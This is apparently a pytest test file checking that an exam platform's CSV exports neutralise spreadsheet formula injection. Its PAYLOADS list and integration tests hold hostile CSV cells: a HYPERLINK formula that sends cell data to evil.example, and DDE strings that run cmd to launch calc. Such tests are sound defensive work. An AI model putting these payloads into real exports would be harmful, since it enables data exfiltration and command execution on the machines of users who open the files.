"""Every CSV export goes through one writer that a spreadsheet cannot turn into a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from exam.competitions.models import Role
from question_bank import formats, safe_csv
from question_bank.items import Item, Option
from tests.conftest import login
from tests.factories import appoint, make_competition

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]

# Endpoint -> how a test makes it export attacker-chosen text. Adding a CSV export without a
# line here fails test_every_csv_export_is_listed.
CSV_ENDPOINTS = {"results.public_csv", "bank.export"}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _runnable(cell: str) -> bool:
    return cell[:1] in safe_csv.FORMULA_TRIGGERS and not re.fullmatch(r"-?\d+(\.\d+)?", cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_as_text_and_read_back_unchanged(payload):
    written = safe_csv.neutralise(payload)
    assert written == "'" + payload
    assert safe_csv.restore(written) == payload


@pytest.mark.parametrize("value", ["'=already quoted", "''@twice", "'plain", "Nguyễn Văn A"])
def test_apostrophes_round_trip_too(value):
    assert safe_csv.restore(safe_csv.neutralise(value)) == value


def test_plain_numbers_stay_numbers_so_score_columns_still_sum():
    """A negative score cannot happen, but a negative number is no formula: it stays a number."""
    assert [safe_csv.neutralise(v) for v in ("-1", "-0.50", "80.00", 3)] == ["-1", "-0.50",
                                                                               "80.00", 3]
    assert safe_csv.neutralise("-1e5") == "'-1e5"


def test_no_module_writes_csv_but_the_safe_writer():
    offenders = [str(path.relative_to(ROOT)) for folder in ("exam", "question_bank")
                 for path in (ROOT / folder).rglob("*.py")
                 if path.name != "safe_csv.py"
                 and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text("utf-8"))]
    assert offenders == []


def test_every_csv_export_is_listed(app):
    exporting = {rule.endpoint for rule in app.url_map.iter_rules()
                 if "csv" in rule.rule and rule.endpoint != "static"}
    assert exporting == CSV_ENDPOINTS


def test_the_public_results_csv_neutralises_names_and_part_titles(client, db, clock):
    from exam.results import service
    from tests.results.helpers import PARTS, make_scene

    parts = [dict(PARTS[0], title="@SUM(1+1)*cmd|' /C calc'!A0"), PARTS[1]]
    scene = make_scene(db, clock, parts=parts)
    huong = scene.app("Nguyễn Thị Hương")
    huong.user.full_name = PAYLOADS[0]
    db.flush()
    service.publish_provisional_results(db, scene.chair, scene.competition, now=clock.now,
                                        part_scores=scene.scores)
    text = client.get(f"/competitions/{scene.competition.id}/results.csv").get_data(as_text=True)
    cells = _cells(text)
    assert "'" + PAYLOADS[0] in cells
    assert "'" + parts[0]["title"] in cells
    assert [c for c in cells if _runnable(c)] == []
    assert "80.00" in cells


def test_the_bank_csv_export_neutralises_and_reimports_the_same_questions(client, db, clock):
    from exam.bank import service

    competition = make_competition(db)
    author, colleague = (appoint(db, competition, Role.QUESTION_AUTHOR) for _ in range(2))
    item = Item(key="cc-77", type="single_choice", stem=PAYLOADS[1], points=1,
                topic=PAYLOADS[3], difficulty="easy",
                options=(Option(PAYLOADS[0], 1), Option("-2+3", 0)),
                source=PAYLOADS[4], general_feedback=PAYLOADS[5])
    version = service.create_item(db, author, item, now=clock.now)
    service.review_version(db, colleague, version, now=clock.now)
    service.approve_version(db, colleague, version, now=clock.now)
    login(client, author)
    text = client.get("/bank/export/csv").get_data(as_text=True)
    cells = _cells(text)
    assert [c for c in cells if _runnable(c)] == []
    assert "'" + PAYLOADS[1] in cells
    assert formats.parse("csv", text) == [service.item_of(version)]
